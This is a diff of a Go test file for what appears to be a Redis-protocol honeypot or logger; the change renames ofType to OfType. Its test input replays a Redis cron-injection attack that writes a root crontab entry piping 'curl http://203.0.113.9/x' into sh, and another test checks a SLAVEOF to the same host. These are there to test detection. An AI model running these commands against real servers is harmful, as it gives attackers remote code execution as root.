@@ -198,7 +198,7 @@ func TestReplicaOf(t *testing.T) {
 		t.Errorf("got  %q\nwant %q", got, want)
 	}
 	var warned bool
-	for _, e := range rec.ofType(event.TypeCommand) {
+	for _, e := range rec.OfType(event.TypeCommand) {
 		if e.Fields["cmd"] == "SLAVEOF" && e.Severity == event.Warning && e.Fields["args"] == `["203.0.113.9","21000"]` {
 			warned = true
 		}
@@ -221,7 +221,7 @@ func TestFlushAndSharedKeyspace(t *testing.T) {
 func TestEvents(t *testing.T) {
 	addr, rec := start(t, "127.77.0.7:0", map[string]string{"password": "secret"})
 	exchange(t, addr, "AUTH nope\r\nHELLO 3 AUTH default secret\r\nCONFIG SET dir /var/spool/cron/crontabs\r\nCONFIG SET dbfilename root\r\nSET x \"\\n* * * * * curl http://203.0.113.9/x | sh\\n\"\r\nSAVE\r\nFOO\r\n")
-	auths := rec.ofType(event.TypeAuth)
+	auths := rec.OfType(event.TypeAuth)
 	if len(auths) != 2 {
 		t.Fatalf("auth events: %d", len(auths))
 	}
@@ -231,7 +231,7 @@ func TestEvents(t *testing.T) {
 	if f := auths[1].Fields; f["password"] != "secret" || f["success"] != "true" {
 		t.Errorf("second auth: %v", f)
 	}
-	cmds := rec.ofType(event.TypeCommand)
+	cmds := rec.OfType(event.TypeCommand)
 	if len(cmds) != 7 {
 		t.Fatalf("command events: %d", len(cmds))
 	}
